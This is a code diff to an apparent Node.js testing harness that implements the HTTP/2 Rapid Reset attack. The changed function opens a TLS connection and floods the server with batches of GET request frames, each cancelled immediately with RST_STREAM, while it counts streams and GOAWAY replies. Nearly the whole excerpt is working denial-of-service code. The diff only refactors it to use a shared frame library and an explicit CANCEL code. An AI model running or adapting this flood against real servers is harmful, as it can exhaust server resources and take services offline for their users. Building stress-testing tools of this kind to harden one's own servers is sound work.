@@ -7,10 +7,10 @@
 const tls = require('node:tls');
 const { once } = require('node:events');
 const { setTimeout: sleep } = require('node:timers/promises');
-const h2 = require('./h2-raw-frames');
-const { createFrameReader } = require('./h2-frame-reader');
+const h2 = require('../../h2-wire');
 const { untilPhaseEnds } = require('./abuse-run');
 
+const CANCEL = 0x8; // the RST_STREAM code a browser sends for a request it no longer wants
 // Stream ids are 31-bit odd numbers; a connection that used them all starts over.
 const MAX_STREAM_ID = 2 ** 31 - 1;
 
@@ -46,9 +46,10 @@ function runRapidReset(o) {
     socket.once('close', () => {
       closed = true;
     });
-    socket.on('data', createFrameReader((f) => {
-      if (f.type === h2.TYPE.SETTINGS && !(f.flags & h2.FLAG.ACK)) socket.write(h2.settingsAck());
-      else if (f.type === h2.TYPE.PING && !(f.flags & h2.FLAG.ACK)) socket.write(h2.pingAck(f.payload));
+    const readFrames = h2.createFrameReader();
+    socket.on('data', (chunk) => readFrames(chunk).forEach((f) => {
+      if (f.type === h2.TYPE.SETTINGS && !(f.flags & h2.FLAG.ACK)) socket.write(h2.settingsFrame([], true));
+      else if (f.type === h2.TYPE.PING && !(f.flags & h2.FLAG.ACK)) socket.write(h2.ping(f.payload, true));
       else if (f.type === h2.TYPE.GOAWAY) {
         const code = f.payload.length >= 8 ? f.payload.readUInt32BE(4) : -1;
         o.stats.goaways[code] = (o.stats.goaways[code] || 0) + 1;
@@ -56,11 +57,11 @@ function runRapidReset(o) {
         socket.end();
       }
     }));
-    socket.write(Buffer.concat([h2.PREFACE, h2.settings()]));
+    socket.write(Buffer.concat([h2.PREFACE, h2.settingsFrame([])]));
     let streamId = 1;
     while (!closed && !o.signal.aborted && Date.now() < o.until && streamId + 2 * o.streamsPerBatch < MAX_STREAM_ID) {
       const batch = [];
-      for (let i = 0; i < o.streamsPerBatch; i += 1, streamId += 2) batch.push(h2.getRequest(streamId, host, o.path), h2.rstStream(streamId));
+      for (let i = 0; i < o.streamsPerBatch; i += 1, streamId += 2) batch.push(h2.getRequest(streamId, host, o.path), h2.rstStream(streamId, CANCEL));
       o.stats.streams += o.streamsPerBatch;
       // Waiting for 'drain' keeps the client's own buffers bounded when the server reads slowly.
       if (!socket.write(Buffer.concat(batch))) await new Promise((resolve) => waitForDrain(socket, resolve));
